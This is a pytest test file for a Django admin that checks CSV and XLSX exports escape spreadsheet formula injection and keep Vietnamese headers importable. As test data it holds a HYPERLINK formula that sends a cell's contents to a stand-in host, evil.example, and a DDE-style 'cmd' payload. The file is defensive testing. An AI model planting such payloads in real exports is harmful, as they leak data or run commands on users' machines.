"""Formula injection through the admin's django-import-export exports (issue 14, item 20)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from .factories import make_collective, unit

pytestmark = pytest.mark.django_db

EXPORT_URL = "/quan-tri/models_registry/collective/export/"
NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'


def export(client, title, url=EXPORT_URL):
    form = client.get(url).context["form"]
    formats = {label: value for value, label in form.fields["format"].choices}
    # Every column ticked, as the admin's form has them by default: the check boxes are
    # named "<resource>_<field>" ("collectiveresource_name").
    columns = {name: "on" for name in form.fields if "resource_" in name}
    return client.post(url, {"format": formats[title], "resource": "0", **columns})


def csv_rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_an_xlsx_export_writes_no_formula(admin_client):
    make_collective(unit("01891"), name=NAME)
    response = export(admin_client, "xlsx")
    ws = load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in ws.iter_rows() for c in row if "HYPERLINK" in str(c.value)]
    assert len(cells) == 1
    assert cells[0].data_type == "s"
    assert not str(cells[0].value).startswith("=")


def test_a_csv_export_has_no_cell_starting_with_a_bare_equals(admin_client):
    make_collective(unit("01891"), name=NAME)
    response = export(admin_client, "csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = [cell for row in rows for cell in row if "HYPERLINK" in cell]
    # Kept, visibly, as text: a spreadsheet shows it and runs nothing.
    assert names == ["'" + NAME]


def test_escaping_keeps_empty_cells_empty_and_numbers_numbers(admin_client):
    from django.utils.text import capfirst

    from models_registry.models import Individual

    from .factories import make_individual

    make_individual(unit("01891"), name="Hoàng Văn A")  # no birth year
    make_individual(unit("01891"), name="Hoàng Văn B", birth_year=1970)
    response = export(admin_client, "xlsx", "/quan-tri/models_registry/individual/export/")
    ws = load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in ws[1]]
    labels = {f.name: capfirst(str(f.verbose_name)) for f in Individual._meta.fields}
    years = {
        row[header.index(labels["full_name"])]: row[header.index(labels["birth_year"])]
        for row in ws.iter_rows(min_row=2, values_only=True)
    }
    assert years == {"Hoàng Văn A": None, "Hoàng Văn B": 1970}


@pytest.mark.parametrize("name", ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"])
def test_a_csv_export_quotes_every_formula_start(admin_client, name):
    make_collective(unit("01891"), name=name)
    response = export(admin_client, "csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert "'" + name in [cell for row in rows for cell in row]


def test_the_admin_imports_the_same_formats(admin_client):
    form = admin_client.get("/quan-tri/models_registry/field/import/").context["form"]
    assert [label for _value, label in form.fields["format"].choices if _value] == [
        "csv",
        "xlsx",
        "tsv",
        "json",
    ]


def test_every_admin_export_uses_the_formula_safe_formats():
    from django.contrib import admin
    from import_export.admin import ExportMixin

    from danvan.export_formats import FORMATS

    exporting = [
        model_admin
        for model_admin in admin.site._registry.values()
        if isinstance(model_admin, ExportMixin)
    ]
    assert len(exporting) >= 5
    assert [type(a).__name__ for a in exporting if list(a.formats) != FORMATS] == []


def test_a_csv_export_of_the_helping_agencies_writes_no_formula(admin_client):
    from assistance.models import Agency, AgencyKind

    Agency.objects.create(name=NAME, kind=AgencyKind.MASS_ORGANISATION)
    rows = csv_rows(export(admin_client, "csv", "/quan-tri/assistance/agency/export/"))
    assert [cell for row in rows for cell in row if "HYPERLINK" in cell] == ["'" + NAME]


def test_the_admins_exports_are_headed_in_vietnamese_and_import_back(admin_client):
    """The admin's columns carry the fields' Vietnamese names ("Tên", not "name"), and a file
    the admin exported imports again as it is."""
    from models_registry.models import Field

    field = Field.objects.order_by("pk").first()
    rows = csv_rows(export(admin_client, "csv", "/quan-tri/models_registry/field/export/"))
    header = rows[0]
    labels = {f.name: str(f.verbose_name) for f in Field._meta.fields}
    assert header[0] == "ID" and labels["name"].capitalize() in header, header
    assert not {"name", "code", "order"} & set(header), header

    row = next(r for r in rows[1:] if r[0] == str(field.pk))
    row[header.index(labels["name"].capitalize())] = "Tên đã sửa trong tệp"
    edited = io.StringIO()
    csv.writer(edited).writerows([header, row])
    upload = io.BytesIO(edited.getvalue().encode("utf-8"))
    upload.name = "linh-vuc.csv"
    import_url = "/quan-tri/models_registry/field/import/"
    form = admin_client.get(import_url).context["form"]
    formats = {label: value for value, label in form.fields["format"].choices if value}
    preview = admin_client.post(
        import_url, {"format": formats["csv"], "resource": "0", "import_file": upload}
    )
    assert preview.status_code == 200
    confirm = preview.context["confirm_form"]
    done = admin_client.post(
        "/quan-tri/models_registry/field/process_import/",
        {**confirm.initial, "resource": "0"},
    )
    assert done.status_code == 302, done.content.decode()[:2000]
    field.refresh_from_db()
    assert field.name == "Tên đã sửa trong tệp"


def test_every_admin_export_has_distinct_vietnamese_headers():
    from django.contrib import admin
    from import_export.admin import ExportMixin

    for model_admin in admin.site._registry.values():
        if not isinstance(model_admin, ExportMixin):
            continue
        for resource_class in model_admin.get_resource_classes(None):
            headers = resource_class().get_export_headers()
            assert len(set(headers)) == len(headers), (model_admin, headers)
            assert all(h[:1].isupper() for h in headers), (model_admin, headers)
